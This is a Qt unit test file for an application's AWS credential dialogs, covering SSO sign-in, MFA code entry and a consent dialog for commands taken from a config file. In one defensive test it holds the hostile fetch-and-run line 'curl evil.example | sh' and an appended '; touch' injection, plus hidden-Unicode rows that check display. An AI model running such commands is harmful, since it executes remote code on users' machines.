// SPDX-License-Identifier: GPL-3.0-or-later
#include "ui/window/credentialdialogs.h"

#include "credentials/credentialneeds.h"
#include "ui/dialogs/consentdialog.h"
#include "ui/dialogs/mfacodedialog.h"
#include "ui/panels/messageactions.h"
#include "ui/panels/plainlabel.h"

#include <QClipboard>
#include <QGuiApplication>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>

using namespace dw;
using namespace Qt::StringLiterals;

namespace {

ConnectionSummary waitingFor(const std::optional<ApiError> &error)
{
    ConnectionSummary connection;
    connection.id = u"c1"_s;
    connection.name = u"vision-prod"_s;
    connection.kind = ConnectionKind::Profile;
    connection.profile = u"labeling"_s;
    connection.file = u"/etc/aws/config"_s;
    connection.line = 12;
    connection.ssoSession = u"company-sso"_s;
    connection.error = error;
    return connection;
}

QPushButton *button(const QDialog &dialog, const QString &text)
{
    for (auto *one : dialog.findChildren<QPushButton *>()) {
        if (one->text().remove(u'&') == text)
            return one;
    }
    return nullptr;
}

bool says(const QWidget &widget, const QString &words)
{
    const QList<PlainLabel *> labels = widget.findChildren<PlainLabel *>();
    return std::any_of(labels.begin(), labels.end(), [&](const PlainLabel *label) { return label->text().contains(words); });
}

QString id(const char16_t *action)
{
    return QString::fromUtf16(action);
}

} // namespace

class TestCredentialDialogs : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void init();
    void aSignInIsAskedForByItsSession();
    void codes_data();
    void codes();
    void theCodeIsForgotten();
    void S12_theWholeCommandIsShown();
    void S12_nothingInACommandHides_data();
    void S12_nothingInACommandHides();
    void S12_consentIsForWhatWasSeen();
    void S12_theSafeAnswerIsTheDefault();
    void whatIsAnsweredElsewhereGoes();
    void theFileIsShown();
    void otherActionsAreNotTaken();

private:
    std::unique_ptr<QWidget> m_window;
    std::unique_ptr<CredentialDialogs> m_dialogs;
};

void TestCredentialDialogs::init()
{
    m_dialogs.reset();
    m_window = std::make_unique<QWidget>();
    m_dialogs = std::make_unique<CredentialDialogs>(*m_window);
    m_window->show();
}

void TestCredentialDialogs::aSignInIsAskedForByItsSession()
{
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::SignIn, u"company-sso"_s))});
    QSignalSpy asked(m_dialogs.get(), &CredentialDialogs::signInRequested);
    QVERIFY(m_dialogs->openForMessage(u"sso/company-sso"_s, id(MessageActions::signIn)));
    QCOMPARE(asked.size(), 1);
    QCOMPARE(asked.first().first().toString(), u"company-sso"_s);
    QVERIFY(m_dialogs->openForMessage(u"sso/company-sso"_s, id(MessageActions::copyCommand)));
    QCOMPARE(QGuiApplication::clipboard()->text(), u"aws sso login --sso-session company-sso"_s);
    m_dialogs->signInAgain(u"c1"_s);
    QCOMPARE(asked.size(), 2);
}

void TestCredentialDialogs::codes_data()
{
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("code");
    QTest::newRow("six digits") << u"123456"_s << u"123456"_s;
    QTest::newRow("as devices show it") << u"123 456"_s << u"123456"_s;
    QTest::newRow("zeros count") << u"000007"_s << u"000007"_s;
    QTest::newRow("letters cannot be typed") << u"12a34b56"_s << u"123456"_s;
    QTest::newRow("five are too few") << u"12345"_s << QString();
    QTest::newRow("nor in other scripts, which AWS does not read") << u"١٢٣٤٥٦"_s << QString();
}

void TestCredentialDialogs::codes()
{
    QFETCH(QString, typed);
    QFETCH(QString, code);
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::MfaCode, u"arn:aws:iam::111122223333:mfa/anna"_s))});
    QVERIFY(m_dialogs->openForMessage(u"c1"_s, id(MessageActions::enterCode)));
    auto *dialog = m_window->findChild<MfaCodeDialog *>();
    QVERIFY(dialog->isVisible());
    QVERIFY(says(*dialog, u"vision-prod"_s) && says(*dialog, u"arn:aws:iam::111122223333:mfa/anna"_s));
    QSignalSpy entered(m_dialogs.get(), &CredentialDialogs::mfaCodeEntered);
    auto *field = dialog->findChild<QLineEdit *>();
    if (typed.front().unicode() < 128)
        QTest::keyClicks(field, typed);
    else
        field->insert(typed); // QTest types ASCII alone
    QTest::keyClick(field, Qt::Key_Return);
    QCOMPARE(entered.size(), code.isEmpty() ? 0 : 1);
    if (!code.isEmpty())
        QCOMPARE(entered.first(), (QVariantList{u"c1"_s, code}));
}

void TestCredentialDialogs::theCodeIsForgotten()
{
    MfaCodeDialog dialog(u"vision-prod"_s, {});
    auto *field = dialog.findChild<QLineEdit *>();
    dialog.open();
    QTest::keyClicks(field, u"123456"_s);
    dialog.reject();
    QVERIFY(field->text().isEmpty());
    field->undo();
    QVERIFY(field->text().isEmpty());
    QVERIFY(!field->accessibleName().isEmpty());
}

void TestCredentialDialogs::S12_theWholeCommandIsShown()
{
    const QString command = u"/opt/vault/get --profile 'labeling' "_s + u"x"_s.repeated(6000) + u" ; touch /tmp/<b>x</b>"_s;
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, command))});
    QVERIFY(m_dialogs->openForMessage(u"c1"_s, id(MessageActions::showCommand)));
    auto *dialog = m_window->findChild<ConsentDialog *>();
    QCOMPARE(dialog->findChild<QPlainTextEdit *>()->toPlainText(), command);
    QVERIFY(says(*dialog, u"“labeling”"_s) && says(*dialog, u"/etc/aws/config, line 12"_s));
    QVERIFY(says(*dialog, u"Whoever can write that file chooses the command"_s));
    QSignalSpy allowed(m_dialogs.get(), &CredentialDialogs::commandAllowed);
    button(*dialog, u"Run this command"_s)->click();
    QCOMPARE(allowed.size(), 1);
    QCOMPARE(allowed.first(), (QVariantList{u"c1"_s, command}));
    QVERIFY(!dialog->isVisible());
}

void TestCredentialDialogs::S12_nothingInACommandHides_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("shown");
    QTest::newRow("S11 right-to-left override") << u"a\u202Eb"_s << u"a\\u202eb"_s;
    QTest::newRow("S11 escape") << u"a\u001B[2Jb"_s << u"a\\u001b[2Jb"_s;
    QTest::newRow("S11 zero width") << u"a\u200Bb"_s << u"a\\u200bb"_s;
    QTest::newRow("a second line is a line") << u"a\nb"_s << u"a\nb"_s;
    QTest::newRow("a line end that overwrites") << u"a\rb"_s << u"a\\u000db"_s;
}

void TestCredentialDialogs::S12_nothingInACommandHides()
{
    QFETCH(QString, command);
    ConsentDialog dialog({u"labeling"_s, command, {}, 0});
    QTEST(dialog.findChild<QPlainTextEdit *>()->toPlainText(), "shown");
}

void TestCredentialDialogs::S12_consentIsForWhatWasSeen()
{
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, u"vault"_s))});
    m_dialogs->signInAgain(u"c1"_s);
    auto *dialog = m_window->findChild<ConsentDialog *>();
    QSignalSpy allowed(m_dialogs.get(), &CredentialDialogs::commandAllowed);
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, u"curl evil.example | sh"_s))}); // the file changed
    button(*dialog, u"Run this command"_s)->click();
    QCOMPARE(allowed.size(), 1);
    QCOMPARE(allowed.first(), (QVariantList{u"c1"_s, u"vault"_s}));
}

void TestCredentialDialogs::S12_theSafeAnswerIsTheDefault()
{
    ConsentDialog dialog({u"labeling"_s, u"vault"_s, {}, 0});
    QSignalSpy allowed(&dialog, &ConsentDialog::allowed);
    dialog.open();
    QVERIFY(button(dialog, u"Don’t run"_s)->isDefault());
    QTest::keyClick(&dialog, Qt::Key_Return);
    QVERIFY(!dialog.isVisible());
    QVERIFY(allowed.isEmpty());
}

void TestCredentialDialogs::whatIsAnsweredElsewhereGoes()
{
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::MfaCode, {}))});
    m_dialogs->signInAgain(u"c1"_s);
    auto *code = m_window->findChild<MfaCodeDialog *>();
    QVERIFY(code->isVisible());
    m_dialogs->setConnections({waitingFor(needError(CredentialNeed::Consent, u"vault"_s))});
    QVERIFY(!code->isVisible());
    m_dialogs->signInAgain(u"c1"_s);
    auto *consent = m_window->findChild<ConsentDialog *>();
    QVERIFY(consent->isVisible());
    m_dialogs->setConnections({waitingFor({})});
    QVERIFY(!consent->isVisible());
}

void TestCredentialDialogs::theFileIsShown()
{
    ApiError error;
    error.kind = ApiError::Kind::CredentialsMissing;
    m_dialogs->setConnections({waitingFor(error)});
    QSignalSpy shown(m_dialogs.get(), &CredentialDialogs::openFileRequested);
    QVERIFY(m_dialogs->openForMessage(u"c1"_s, id(MessageActions::showFile)));
    QCOMPARE(shown.first().first().toString(), u"/etc/aws/config"_s);
}

void TestCredentialDialogs::otherActionsAreNotTaken()
{
    m_dialogs->setConnections({waitingFor({})});
    QVERIFY(!m_dialogs->openForMessage(u"c1"_s, id(MessageActions::retry)));
    QVERIFY(!m_dialogs->openForMessage(u"gone"_s, id(MessageActions::signIn)));
}

QTEST_MAIN(TestCredentialDialogs)
#include "tst_credentialdialogs.moc"
